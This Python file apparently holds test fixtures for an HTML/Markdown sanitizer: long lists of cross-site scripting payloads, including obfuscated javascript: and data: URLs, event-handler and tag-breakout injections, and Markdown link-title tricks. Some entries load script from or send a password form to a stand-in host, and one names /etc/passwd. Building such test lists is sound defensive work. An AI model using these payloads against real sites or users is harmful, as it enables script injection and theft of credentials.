"""Texts that would run something if a page believed them; each rings `alert`, or leaves an element or attribute of its own."""

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript&#58;alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript\\:alert(1)", "javascript%3Aalert(1)", "\u0001javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "blob:https://x/y", "file:///etc/passwd",
    "filesystem:https://x/y", "view-source:https://x", "intent://x#Intent;end", "ｊavascript:alert(1)", "feed:javascript:alert(1)",
    "jar:https://x!/y", "//javascript:alert(1)", "/accounts/logout/", "?next=javascript:alert(1)", "#\" onclick=\"alert(1)",
]  # fmt: skip
LINKS = [
    form.format(scheme)
    for scheme in SCHEMES
    for form in ("[x]({})", "[x](<{}>)", "<{}>", "[x]: {}\n\n[x]", "![x]({})", '<a href="{}">x</a>')
]
WRITTEN = [
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//evil.invalid/x.js></script>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</p><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<img src='x' onerror\n=\nalert(1)>", "<img src=x oNeRrOr=alert`1`",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&lpar;1&rpar;</script>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><a xlink:href=javascript:alert(1)>x", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>",
    "<base href=//evil.invalid/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=import href=//evil.invalid/>", "<style>*{background:url(//evil.invalid)}</style>", "<style>@import'//evil.invalid'</style>",
    "<p style='background:url(javascript:alert(1))'>x", "<div style=position:fixed;inset:0>x", "<p class='btn btn-primary' id=main>x",
    "<form action=//evil.invalid><input name=password><button>ok</button></form>", "<button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x",
    "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>x", "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>", "<portal src=javascript:alert(1)>", "<x onclick=alert(1) tabindex=1 autofocus>x", "<a onclick=alert(1) href=https://x>x</a>",
    "<a href=https://x target=_blank rel=opener>x</a>", "<a href=https://x ping=//evil.invalid>x</a>", "<a href=https://x download>x</a>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x", "<div data-hx-post=/x hx-trigger=load hx-swap=outerHTML>x", "<p hx-on:click=alert(1)>x",
    "<p hx-on::load='alert(1)' hx-vals='js:{x:alert(1)}'>x", "<div data-bs-toggle=modal data-opens=palette>x", "<div is=x-y>x", "<p id=toasts aria-hidden=true>x",
    "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "```\"><img src=x onerror=alert(1)>\nx\n```", "~~~ javascript:alert(1)\n<svg onload=alert(1)>\n~~~",
    "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "**<script>alert(1)</script>**", "[<img src=x onerror=alert(1)>](https://x)", "[x](https://x \"\\\" onclick=alert(1)\")", "[x](https://x' onclick='alert(1))",
    "[x](https://x\" onmouseover=\"alert(1))", "![\" onerror=\"alert(1)](x)", "![x](x \"onerror=alert(1)\")", "[a](https://x)[b](javascript:alert(1))",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'z'", "[x]\n\n[x]: https://x \"\\\"><script>alert(1)</script>\"", "<https://x\"onmouseover=\"alert(1)>", "<javascript:alert(1)@x.y>",
    "https://x/<script>alert(1)</script>", "[x](java&NewLine;script:alert(1))", "[x](java&Tab;script:alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</script>", "\u2028<script>alert(1)</script>", "{{ 7|add:1 }}{% debug %}",
    "<a href=\"https://x\u0000\" onclick=alert(1)>x</a>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href=javascript:alert(1)?>", "<!DOCTYPE html><script>alert(1)</script>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x", "<ol start='1\" onclick=alert(1)'><li>x", "999999999. x\n\n1\" onclick=alert(1). y", "# <svg onload=alert(1)>", "<b <script>alert(1)</script>0",
]  # fmt: skip
TEXTS = [*LINKS, *WRITTEN]
